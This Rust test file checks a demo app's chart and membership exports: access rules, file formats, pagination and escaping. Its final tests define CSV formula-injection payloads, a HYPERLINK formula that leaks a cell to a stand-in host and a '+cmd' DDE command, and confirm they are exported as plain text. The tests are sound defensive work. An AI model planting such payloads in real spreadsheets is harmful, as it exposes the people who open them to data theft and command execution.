//! Exports of the chart (SVG, PNG) and of a subtree (CSV, XLSX) over HTTP
//! on the demo: who may download what, and what the files hold.

use crate::support::{client, demo_server, logged_in};
use server::demo::{BLOC_CODE, HOSPITAL_CODE, JUSTICE_CELL_CODE};

async fn get(c: &reqwest::Client, url: String) -> (u16, String, Vec<u8>) {
    let res = c.get(url).send().await.unwrap();
    let status = res.status().as_u16();
    let ctype = res
        .headers()
        .get("content-type")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, ctype, res.bytes().await.unwrap().to_vec())
}

const BOM: &[u8] = b"\xef\xbb\xbf";

fn csv_rows(body: &[u8]) -> Vec<Vec<String>> {
    assert!(body.starts_with(BOM), "CSV starts with a BOM");
    let mut r = csv::Reader::from_reader(&body[BOM.len()..]);
    let mut rows = vec![r.headers().unwrap().iter().map(str::to_string).collect()];
    for rec in r.records() {
        rows.push(rec.unwrap().iter().map(str::to_string).collect());
    }
    rows
}

#[tokio::test]
async fn visitors_must_log_in_for_every_export() {
    let srv = demo_server().await;
    let c = client();
    for path in [
        "/xuat/so-do.svg".to_string(),
        "/xuat/so-do.png".to_string(),
        format!("/xuat/don-vi/{BLOC_CODE}.csv"),
        format!("/xuat/don-vi/{BLOC_CODE}.xlsx"),
        format!("/xuat/don-vi/{BLOC_CODE}/dang-vien.csv"),
        "/xuat/don-vi/NOPE.csv".to_string(),
    ] {
        let (status, _, _) = get(&c, format!("{}{path}", srv.base)).await;
        assert_eq!(status, 401, "{path}");
    }
}

#[tokio::test]
async fn the_svg_shows_the_open_units_as_the_page_does() {
    let srv = demo_server().await;
    let member = logged_in(&srv, "member").await;
    let (status, ctype, body) = get(&member, format!("{}/xuat/so-do.svg", srv.base)).await;
    assert_eq!(status, 200);
    assert!(ctype.starts_with("image/svg+xml"));
    let svg = String::from_utf8(body).unwrap();
    assert!(svg.starts_with("<?xml"));
    assert_eq!(
        svg.matches("<g id=\"n-").count(),
        1,
        "only the root when nothing is open"
    );

    let url = format!("{}/xuat/so-do.svg?mo={BLOC_CODE},{HOSPITAL_CODE}", srv.base);
    let (status, _, body) = get(&member, url).await;
    assert_eq!(status, 200);
    let svg = String::from_utf8(body).unwrap();
    // The root, its 98 organisations and the hospital's 16 cells.
    assert_eq!(svg.matches("<g id=\"n-").count(), 1 + 98 + 16);
    assert!(svg.contains(&format!("id=\"n-{HOSPITAL_CODE}\"")));
    assert!(svg.contains("Bệnh viện Đa khoa"));
    assert!(svg.contains("Đảng bộ cơ sở"));
    assert!(svg.contains("Bí thư: "));
    assert!(
        svg.contains("#1565c0"),
        "grassroots committees in their colour"
    );

    // Before the merger: the two old blocs.
    let url = format!("{}/xuat/so-do.svg?ngay=2019-12-31", srv.base);
    let (status, _, body) = get(&member, url).await;
    assert_eq!(status, 200);
    let svg = String::from_utf8(body).unwrap();
    assert!(svg.contains("id=\"n-DBK-CQ\"") && svg.contains("id=\"n-DBK-DN\""));

    let (status, _, _) = get(
        &member,
        format!("{}/xuat/so-do.svg?ngay=31/12/2019", srv.base),
    )
    .await;
    assert_eq!(status, 422);
    let (status, _, _) = get(&member, format!("{}/xuat/so-do.gif", srv.base)).await;
    assert_eq!(status, 404);
}

fn png_size(png: &[u8]) -> (u32, u32) {
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
    (
        u32::from_be_bytes(png[16..20].try_into().unwrap()),
        u32::from_be_bytes(png[20..24].try_into().unwrap()),
    )
}

fn svg_size(svg: &str) -> (f64, f64) {
    let attr = |name: &str| -> f64 {
        let start = svg.find(&format!(" {name}=\"")).unwrap() + name.len() + 3;
        let end = start + svg[start..].find('"').unwrap();
        svg[start..end].parse().unwrap()
    };
    (attr("width"), attr("height"))
}

#[tokio::test]
async fn the_png_is_the_svg_at_the_asked_scale() {
    let srv = demo_server().await;
    let member = logged_in(&srv, "member").await;
    let query = format!("mo={BLOC_CODE},{HOSPITAL_CODE}");
    let (_, _, svg) = get(&member, format!("{}/xuat/so-do.svg?{query}", srv.base)).await;
    let (w, h) = svg_size(&String::from_utf8(svg).unwrap());
    let (status, ctype, png) = get(
        &member,
        format!("{}/xuat/so-do.png?{query}&scale=2", srv.base),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(ctype, "image/png");
    assert_eq!(
        png_size(&png),
        ((w * 2.0).ceil() as u32, (h * 2.0).ceil() as u32)
    );

    // Over the pixel limit, or a scale that is no number: 422.
    for scale in ["8", "abc", "0"] {
        let (status, _, body) = get(
            &member,
            format!("{}/xuat/so-do.png?{query}&scale={scale}", srv.base),
        )
        .await;
        assert_eq!(status, 422, "scale {scale}");
        assert!(!body.is_empty());
    }
}

#[tokio::test]
async fn the_subtree_csv_lists_every_current_unit() {
    let srv = demo_server().await;
    let member = logged_in(&srv, "member").await;
    let (status, ctype, body) = get(
        &member,
        format!("{}/xuat/don-vi/{HOSPITAL_CODE}.csv", srv.base),
    )
    .await;
    assert_eq!(status, 200);
    assert!(ctype.starts_with("text/csv"));
    let rows = csv_rows(&body);
    assert_eq!(rows[0][0], "Mã đơn vị");
    assert_eq!(rows[0].len(), 8);
    assert_eq!(rows[1][0], HOSPITAL_CODE, "the unit first");
    let cells: Vec<_> = rows[2..].iter().filter(|r| r[3] == HOSPITAL_CODE).collect();
    assert_eq!(cells.len(), 16, "the hospital's 16 cells");
    assert!(cells.iter().all(|r| r[2] == "Chi bộ trực thuộc"));
    assert!(
        rows[1][7].len() == 10 && rows[1][7].as_bytes()[2] == b'/',
        "dd/mm/yyyy"
    );
    let total: i64 = rows[1][4].parse::<i64>().unwrap() + rows[1][5].parse::<i64>().unwrap();
    assert!(total > 0);

    // The whole bloc: the root, 98 organisations, 260 cells below them.
    let (_, _, body) = get(&member, format!("{}/xuat/don-vi/{BLOC_CODE}.csv", srv.base)).await;
    assert_eq!(csv_rows(&body).len(), 1 + 1 + 98 + 260);

    let (status, _, _) = get(&member, format!("{}/xuat/don-vi/NOPE.csv", srv.base)).await;
    assert_eq!(status, 404);

    // Compressed, as browsers ask: the stream still ends cleanly.
    for encoding in ["br", "gzip"] {
        let res = member
            .get(format!("{}/xuat/don-vi/{BLOC_CODE}.csv", srv.base))
            .header("accept-encoding", encoding)
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-encoding"], encoding);
        assert!(!res.bytes().await.unwrap().is_empty(), "{encoding}");
    }
}

#[tokio::test]
async fn members_are_exported_only_within_scope() {
    let srv = demo_server().await;
    let member = logged_in(&srv, "member").await;
    let url = format!("{}/xuat/don-vi/{HOSPITAL_CODE}/dang-vien.csv", srv.base);
    let (status, _, body) = get(&member, url.clone()).await;
    assert_eq!(status, 403);
    assert!(String::from_utf8(body).unwrap().contains("không có quyền"));

    let secretary = logged_in(&srv, "cell secretary").await;
    let (status, _, _) = get(
        &secretary,
        format!("{}/xuat/don-vi/{JUSTICE_CELL_CODE}/dang-vien.csv", srv.base),
    )
    .await;
    assert_eq!(status, 403, "another organisation's members");

    let bloc = logged_in(&srv, "bloc standing committee member").await;
    let (status, _, body) = get(&bloc, url).await;
    assert_eq!(status, 200);
    let rows = csv_rows(&body);
    assert_eq!(rows[0][0], "Số thẻ đảng viên");
    assert_eq!(rows[0].len(), 9);
    assert!(rows.len() > 100, "the hospital's members");
    assert!(rows[1..].iter().all(|r| r[0].len() == 8));

    // The bloc's 4,521 members, read page by page.
    let (status, _, body) = get(
        &bloc,
        format!("{}/xuat/don-vi/{BLOC_CODE}/dang-vien.csv", srv.base),
    )
    .await;
    assert_eq!(status, 200);
    let rows = csv_rows(&body);
    let active = rows.len() - 1;
    assert_eq!(active, server::demo::TOTAL_MEMBERS);
    let mut cards: Vec<_> = rows[1..].iter().map(|r| r[0].clone()).collect();
    cards.sort();
    cards.dedup();
    assert_eq!(cards.len(), active, "no member twice across pages");
}

fn sheets(bytes: Vec<u8>) -> calamine::Xlsx<std::io::Cursor<Vec<u8>>> {
    calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap()
}

#[tokio::test]
async fn the_xlsx_has_a_members_sheet_only_for_those_allowed() {
    use calamine::Reader;
    let srv = demo_server().await;
    let url = format!("{}/xuat/don-vi/{HOSPITAL_CODE}.xlsx", srv.base);

    let member = logged_in(&srv, "member").await;
    let (status, ctype, body) = get(&member, url.clone()).await;
    assert_eq!(status, 200);
    assert!(ctype.contains("spreadsheetml"));
    let mut book = sheets(body);
    assert_eq!(book.sheet_names(), vec!["Đơn vị".to_string()]);
    let units = book.worksheet_range("Đơn vị").unwrap();
    assert_eq!(units.height(), 1 + 1 + 16);
    assert_eq!(units.get((0, 1)).unwrap().to_string(), "Tên đơn vị");
    assert_eq!(units.get((1, 0)).unwrap().to_string(), HOSPITAL_CODE);

    let bloc = logged_in(&srv, "bloc standing committee member").await;
    let (status, _, body) = get(&bloc, url).await;
    assert_eq!(status, 200);
    let mut book = sheets(body);
    assert_eq!(
        book.sheet_names(),
        vec!["Đơn vị".to_string(), "Đảng viên".to_string()]
    );
    let members = book.worksheet_range("Đảng viên").unwrap();
    assert_eq!(members.get((0, 1)).unwrap().to_string(), "Họ và tên");
    assert!(members.height() > 100);
}

/// The same walks on PostgreSQL: every unit and member once, in pages.
#[tokio::test]
async fn exports_walk_the_subtree_on_postgres_too() {
    let (mut admin, name, url) = crate::support::fresh_postgres("export").await;
    let store = server::commands::open(&url).await.unwrap();
    assert!(server::commands::load_demo_if_empty(&store).await.unwrap());
    let root = store.unit_by_code(BLOC_CODE).await.unwrap().unwrap();
    let mut units = Vec::new();
    let mut after: Option<String> = None;
    loop {
        let page = store
            .export_units(&root, after.as_deref(), 100)
            .await
            .unwrap();
        units.extend(page.iter().map(|u| u.code.clone()));
        if page.len() < 100 {
            break;
        }
        after = page.last().map(|u| u.path.clone());
    }
    assert_eq!(units.len(), 1 + 98 + 260);
    assert_eq!(units[0], BLOC_CODE);
    let mut members = 0;
    let mut cursor = None;
    loop {
        let page = store
            .export_members(&root, cursor.as_ref(), 1000)
            .await
            .unwrap();
        members += page.len();
        if page.len() < 1000 {
            break;
        }
        cursor = page.last().map(|m| m.cursor.clone());
    }
    assert_eq!(members, server::demo::TOTAL_MEMBERS);
    let hospital = store.unit_by_code(HOSPITAL_CODE).await.unwrap().unwrap();
    let first = store.export_units(&hospital, None, 100).await.unwrap();
    assert_eq!(first.len(), 17);
    assert!(first[0].secretary.is_some());
    assert_eq!(first[1].parent_code.as_deref(), Some(HOSPITAL_CODE));
    assert_eq!(store.count_export_units(&root, 10_000).await.unwrap(), 359);
    assert_eq!(
        store.count_export_members(&root, 10_000).await.unwrap() as usize,
        server::demo::TOTAL_MEMBERS
    );
    assert_eq!(store.count_export_units(&root, 10).await.unwrap(), 10);
    assert_eq!(store.count_export_members(&hospital, 5).await.unwrap(), 5);
    drop(store);
    sqlx::query(&format!("DROP DATABASE {name} WITH (FORCE)"))
        .execute(&mut admin)
        .await
        .unwrap();
}

/// The capped counts that size checks use, on SQLite (PostgreSQL above).
#[tokio::test]
async fn export_counts_stop_at_the_cap() {
    let srv = demo_server().await;
    let root = srv.store.unit_by_code(BLOC_CODE).await.unwrap().unwrap();
    assert_eq!(
        srv.store.count_export_units(&root, 10_000).await.unwrap(),
        359
    );
    let members = srv.store.count_export_members(&root, 10_000).await.unwrap();
    assert_eq!(members as usize, server::demo::TOTAL_MEMBERS);
    assert_eq!(srv.store.count_export_units(&root, 7).await.unwrap(), 7);
    assert_eq!(srv.store.count_export_members(&root, 7).await.unwrap(), 7);
    let cell = srv
        .store
        .unit_by_code(JUSTICE_CELL_CODE)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(srv.store.count_export_units(&cell, 10).await.unwrap(), 1);
}

/// What a spreadsheet would run as a formula: a unit's name, job titles.
const FORMULA_NAME: &str = r#"=HYPERLINK("http://x/?"&B2,"x")"#;
const AT_TITLE: &str = "@SUM(A1:A9)";
const PLUS_TITLE: &str = "+cmd|' /C calc'!A0";
const MINUS_NAME: &str = "-Lê Văn Dấu";
const FORMULA_CELL: &str = "BVDK-CSV";

/// Writes `rows` as a CSV file and imports it as `dangbo import` does.
async fn import_csv(srv: &crate::support::TestServer, name: &str, rows: &[Vec<&str>]) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join(name);
    let mut w = csv::Writer::from_path(&file).unwrap();
    for row in rows {
        w.write_record(row).unwrap();
    }
    w.flush().unwrap();
    let opts = server::import::cli::ImportOptions {
        file,
        valid_rows_only: false,
        dry_run: false,
    };
    server::import::cli::run(&srv.store, &opts).await.unwrap();
}

/// A cell named like a formula, under the hospital, and two of its members
/// whose job titles start with `@` and `+`.
async fn import_formulas(srv: &crate::support::TestServer) {
    use app::domain::import::Sheet;
    let headers =
        |sheet: Sheet| -> Vec<&str> { sheet.fields().iter().map(|f| f.header_vi()).collect() };
    import_csv(
        srv,
        "don-vi.csv",
        &[
            headers(Sheet::Units),
            vec![
                FORMULA_CELL,
                FORMULA_NAME,
                "Chi bộ trực thuộc",
                HOSPITAL_CODE,
                "01/09/2020",
            ],
        ],
    )
    .await;
    let member = |card, name, title| {
        vec![
            card,
            "",
            name,
            "Nam",
            "01/01/1980",
            "15/06/2005",
            "15/06/2006",
            "Chính thức",
            FORMULA_CELL,
            title,
            "",
            "",
            "",
        ]
    };
    import_csv(
        srv,
        "dang-vien.csv",
        &[
            headers(Sheet::Members),
            member("95000001", "Trần Văn Một", AT_TITLE),
            member("95000002", MINUS_NAME, PLUS_TITLE),
        ],
    )
    .await;
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_exported_as_text() {
    let srv = demo_server().await;
    import_formulas(&srv).await;
    let bloc = logged_in(&srv, "bloc standing committee member").await;
    let text = |s: &str| format!("'{s}");

    let url = format!("{}/xuat/don-vi/{FORMULA_CELL}.csv", srv.base);
    let (status, _, body) = get(&bloc, url).await;
    assert_eq!(status, 200);
    let units = csv_rows(&body);
    assert_eq!(units[1][0], FORMULA_CELL);
    assert_eq!(units[1][1], text(FORMULA_NAME));
    // Within the hospital's subtree too.
    let url = format!("{}/xuat/don-vi/{HOSPITAL_CODE}.csv", srv.base);
    let (_, _, body) = get(&bloc, url).await;
    let row = csv_rows(&body)
        .into_iter()
        .find(|r| r[0] == FORMULA_CELL)
        .expect("the new cell is exported");
    assert_eq!(row[1], text(FORMULA_NAME));

    let url = format!("{}/xuat/don-vi/{FORMULA_CELL}/dang-vien.csv", srv.base);
    let (status, _, body) = get(&bloc, url).await;
    assert_eq!(status, 200);
    let members = csv_rows(&body);
    assert_eq!(members.len(), 3, "{members:?}");
    let by_card = |card: &str| members.iter().find(|r| r[0] == card).unwrap().clone();
    let (one, two) = (by_card("95000001"), by_card("95000002"));
    assert_eq!(one[1], "Trần Văn Một", "plain text as it is");
    assert_eq!(one[7], text(FORMULA_NAME), "the cell's name");
    assert_eq!(one[8], text(AT_TITLE));
    assert_eq!(two[1], text(MINUS_NAME));
    assert_eq!(two[8], text(PLUS_TITLE));
    assert_eq!(two[3], "01/01/1980");
}

#[tokio::test]
async fn xlsx_cells_keep_formula_like_text_as_text() {
    use calamine::{Data, Reader};
    let srv = demo_server().await;
    import_formulas(&srv).await;
    let bloc = logged_in(&srv, "bloc standing committee member").await;
    let url = format!("{}/xuat/don-vi/{FORMULA_CELL}.xlsx", srv.base);
    let (status, _, body) = get(&bloc, url).await;
    assert_eq!(status, 200);
    let mut book = sheets(body);
    let units = book.worksheet_range("Đơn vị").unwrap();
    assert_eq!(units.get((1, 1)), Some(&Data::String(FORMULA_NAME.into())));
    let members = book.worksheet_range("Đảng viên").unwrap();
    let titles: Vec<_> = members.rows().skip(1).map(|r| r[8].to_string()).collect();
    assert!(titles.contains(&AT_TITLE.to_string()), "{titles:?}");
    for sheet in ["Đơn vị", "Đảng viên"] {
        let formulas = book.worksheet_formula(sheet).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{sheet}"
        );
    }
}
